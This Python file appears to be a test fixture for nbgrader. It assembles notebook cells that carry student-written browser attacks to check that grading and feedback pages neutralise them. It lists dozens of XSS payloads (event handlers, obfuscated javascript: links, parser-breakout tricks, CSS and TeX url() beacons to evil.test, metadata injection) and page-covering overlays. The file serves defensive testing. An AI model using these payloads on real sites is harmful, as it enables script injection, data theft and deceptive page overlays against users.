"""What students could write for the browser of whoever reads it.

Each runs a script, asks a machine elsewhere or draws over the page, where
nbgrader shows it as it is.
"""

import base64
import html as escaping
import io
from dataclasses import dataclass

from nbformat import from_dict, v4
from PIL import Image

RUN = "fetch(`http://evil.test/run`)"
QUOTED = escaping.escape(RUN)
CALL = RUN.replace("`", '"')


def _picture(kind):
    file = io.BytesIO()
    Image.new("RGB", (20, 10), "red").save(file, kind)
    return base64.b64encode(file.getvalue()).decode()


PNG, JPEG = _picture("png"), _picture("jpeg")
SVG = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{RUN}</script></svg>'


@dataclass
class Attack:
    """Cells that do something: "runs" (or loads), or "covers" the page."""

    name: str
    cells: list
    does: str = "runs"
    page: str = "feedback"


def display(data, metadata=None):
    """An output, not checked: a student's file is not either."""
    shown = {"output_type": "display_data", "data": data, "metadata": metadata or {}}
    return from_dict(shown)


def output(data, metadata=None):
    """A code cell that shows an object."""
    cell = v4.new_code_cell("show()")
    cell.outputs = [display(data, metadata)]
    return [cell]


def html(text):
    return output({"text/html": text})


def markdown(text, **more):
    return [v4.new_markdown_cell(text, **more)]


_HTML = {
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<SCRIPT>{RUN}</SCRIPT>",
    "handler": f'<img src="data:," onerror="{RUN}">',
    "slash for space": f"<img/src='data:,'/onerror={RUN}>",
    "unclosed tag": f'<img src="data:," onerror="{RUN}" x="',
    "details": f'<details open ontoggle="{RUN}">a</details>',
    "mouse": f'<b onmouseover="{RUN}">a</b>',
    "focus": f'<input autofocus onfocus="{RUN}">',
    "link": f'<a href="javascript:{QUOTED}">a</a>',
    "link with entities": f'<a href="java&Tab;script&colon;{QUOTED}">a</a>',
    "link with space": f'<a href=" &#1; JaVaScRiPt:{QUOTED}">a</a>',
    "base": "<base href='http://evil.test/'><img src='x'>",
    "refresh": "<meta http-equiv=refresh content='0; http://evil.test/'>",
    "frame": "<iframe src='http://evil.test/'></iframe>",
    "frame with script": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "frame with data": f"<iframe src='data:text/html,<script>{RUN}</script>'></iframe>",
    "object": "<object data='http://evil.test/'></object>",
    "embed": "<embed src='http://evil.test/'>",
    "form": "<form action='http://evil.test/'><button id=b>a</button></form>"
    "<script>b.click()</script>",
    "picture": "<img src='http://evil.test/x'>",
    "picture of this host": "<img src='/formgrader/api/x'>",
    "picture set": "<img srcset='http://evil.test/x 1x'>",
    "picture source": "<picture><source srcset='http://evil.test/x'><img></picture>",
    "picture map": f"<map><area href='javascript:{QUOTED}'></map>",
    "input picture": "<input type=image src='http://evil.test/x'>",
    "video": "<video src='http://evil.test/x' poster='http://evil.test/y'></video>",
    "audio": "<audio src='http://evil.test/x' autoplay></audio>",
    "track": "<video><source src='http://evil.test/x'></video>",
    "background": "<table background='http://evil.test/x'><tr><td>a</table>",
    "style sheet": "<link rel=stylesheet href='http://evil.test/x'>",
    "prefetch": "<link rel=preload as=image href='http://evil.test/x'>",
    "style attribute": "<b style='background: url(http://evil.test/x)'>a</b>",
    "escaped style": r"<b style='background: \75 rl(http://evil.test/x)'>a</b>",
    "image set": "<b style='background: image-set(\"http://evil.test/x\" 1x)'>a</b>",
    "variable": "<b style='--a: url(http://evil.test/x); background: var(--a)'>a</b>",
    "list": "<li style='list-style: url(http://evil.test/x)'>a</li>",
    "import": "<style>@import 'http://evil.test/x';</style>",
    "rule": "<style>body {background: url(http://evil.test/x)}</style>",
    "rule of the page": "<style>x{} h4{background:url(//evil.test/x)}</style>",
    "font": "<style>@font-face {font-family: a; src: url(http://evil.test/x)}"
    "</style><p style='font-family: a'>a</p>",
    "svg script": SVG,
    "svg handler": f'<svg onload="{RUN}"></svg>',
    "svg link": f"<svg><a href='javascript:{QUOTED}'><text y=9>a</text></a></svg>",
    "svg animation": "<svg><a><set attributeName=href to="
    f"'javascript:{QUOTED}'/><text y=9>a</text></a></svg>",
    "svg image": "<svg><image href='http://evil.test/x'/></svg>",
    "svg use": f"<svg><use href='#a'/><g id=a><script>{RUN}</script></g></svg>",
    "svg foreign object": "<svg><foreignObject><img src='http://evil.test/x'>"
    "</foreignObject></svg>",
    "svg style": "<svg><style>@import 'http://evil.test/x';</style></svg>",
    "svg filter": "<svg><filter id=a><feImage href='http://evil.test/x'/></filter>"
    "<rect width=9 height=9 filter='url(#a)'/></svg>",
    "math breaking out": "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=data:, onerror={RUN}&gt;'>"
    f"<img src=data:, onerror={RUN}>",
    "comment": f"<!--><img src=data:, onerror={RUN}>-->",
    "text area": f"<textarea></textarea><img src=data:, onerror={RUN}>",
    "template": f"<template></template><img src=data:, onerror={RUN}>",
    "body": f"<body onpageshow='{RUN}' onhashchange='{RUN}' onclick='{RUN}'>",
}

# nbconvert's own parser takes the point of these; other pages would not.
_BARE = {
    "svg breaking out": f"<svg></p><style><a title='</style><img src=data:, "
    f"onerror={RUN}>'>",
    "noscript": f'<noscript><p title="</noscript><img src=data:, onerror={RUN}>">',
}

_MARKDOWN = {
    "html": f"a <img src='data:,' onerror='{CALL}'> b",
    "block": f"<div>\n<script>{CALL}</script>\n</div>",
    "html behind code": f"`` ` `` <img src='data:,' onerror='{CALL}'>",
    "link": f"[a](javascript:{CALL})",
    "link in brackets": f"[a](<javascript:{CALL}>)",
    "link with entity": f"[a](javascript&#58;{CALL})",
    "link by name": f"[a]\n\n[a]: javascript:{CALL}",
    "automatic link": f"<javascript:{CALL}>",
    "picture": "![a](http://evil.test/x)",
    "picture by name": "![a]\n\n[a]: http://evil.test/x",
    "mermaid": f"```mermaid\n</pre><img src='data:,' onerror='{CALL}'>\n```",
    "html in a table": f"|a|\n|-|\n|<img src='data:,' onerror='{CALL}'>|",
    "html in math": f"$$ \\text{{a}} $$ <img src='data:,' onerror='{CALL}'>",
    "html in a heading": f"# a <img src='data:,' onerror='{CALL}'>",
    "files prefix": "<a title=' href=\"files/'></a>"
    f"<img src='data:,' onerror='{CALL}'>",
    "tex link": "$\\href{javascript:" + CALL + "}{x}$",
    "tex link in a macro": "$\\def\\a#1{\\href{#1}{x}}\\a{javascript:" + CALL + "}$",
    "tex link by another name": "$\\let\\a=\\href \\a{javascript:" + CALL + "}{x}$",
    "tex style": "$\\style{background: url(http://evil.test/x)}{x}$",
    "tex box": "$\\bbox[background: url(http://evil.test/x)]{x}$",
    "tex token": "$\\mmlToken{mi}[style='background: url(http://evil.test/x)']{x}$",
}

_OUTPUTS = {
    "html in a frame of its own": output(
        {"text/html": f"<script>{RUN}</script>"}, {"text/html": {"isolated": True}}
    ),
    "file name": output(
        {"image/png": PNG}, {"filenames": {"image/png": "http://evil.test/x"}}
    ),
    "width": output({"image/png": PNG}, {"image/png": {"width": f"1 onload={RUN}"}}),
    "height of a jpeg": output(
        {"image/jpeg": JPEG}, {"image/jpeg": {"height": f"1 onload={RUN}"}}
    ),
    "markdown": output({"text/markdown": f"<script>{RUN}</script>"}),
    "latex": output({"text/latex": "$\\href{javascript:" + CALL + "}{x}$"}),
}

_COVERS = {
    "fixed": html("<div style='position:fixed;inset:0;background:red'>a</div>"),
    "absolute": html("<div style='position:absolute;top:0;left:0;width:999px;"
                     "height:1500px;background:red;z-index:99999'>a</div>"),
    "fixed by a rule": html("<style>p {position: fixed; inset: 0; background: red}"
                            "</style><p>a</p>"),
    "rule for the page": html("<style>h4, .cell {color: red}</style>"),
    "rule for a neighbour": html("<style>.output_html ~ *, * {opacity: .5}</style>"),
    "class of the page": html("<div class='navbar-fixed-top' style='background:red'>"
                              "<br><br><br><br><br><br>a</div>"),
    "negative margin": html("<div style='margin-top:-900px;background:red;"
                            "height:950px'>a</div>"),
    "shadow": html("<div style='box-shadow:0 0 0 999px red'>a</div>"),
    "outline": html("<div style='outline:999px solid red'>a</div>"),
    "border image": html("<div style='border:9px solid; border-image: linear-gradient("
                         "red,red) 1 fill / 9px / 900px'>a</div>"),
    "text shadow": html("<b style='text-shadow: 0 -150px 0 red, 0 -300px 0 red,"
                        " 0 -90px red'>█████████████████████████</b>"),
    "overflow": html("<div style='height:0;line-height:0'><div style='height:600px;"
                     "background:red'>a</div></div>"),
    "transform": html("<div style='transform:scale(99);background:red'>a</div>"),
    "markdown": markdown("<div style='position:fixed;inset:0;background:red'>a</div>"),
    "markdown margin": markdown("<div style='margin-top:-900px;height:950px;"
                                "background:red'>a</div>"),
    "markdown height": markdown("<div style='height:0'><div style='height:600px;"
                                "background:red'>a</div></div>"),
    "tex raise": markdown("$\\smash{\\raise 1em{\\rule{60em}{9em}}}$"),
    "tex smash": output({"text/latex": "$\\smash{\\rule{50em}{50em}}$"}),
    "tex style": markdown("$\\style{position:fixed;inset:0;background:red}{x}$"),
}  # fmt: skip

ATTACKS = [
    *(Attack(f"html: {name}", html(text)) for name, text in _HTML.items()),
    *(Attack(f"bare: {name}", html(text), page="bare") for name, text in _BARE.items()),
    *(Attack(f"markdown: {name}", markdown(text)) for name, text in _MARKDOWN.items()),
    *(Attack(f"output: {name}", cells) for name, cells in _OUTPUTS.items()),
    Attack(
        "output: javascript",
        output({"application/javascript": RUN}),
        page="formgrade",
    ),
    *(Attack(f"covers: {name}", cells, "covers") for name, cells in _COVERS.items()),
]
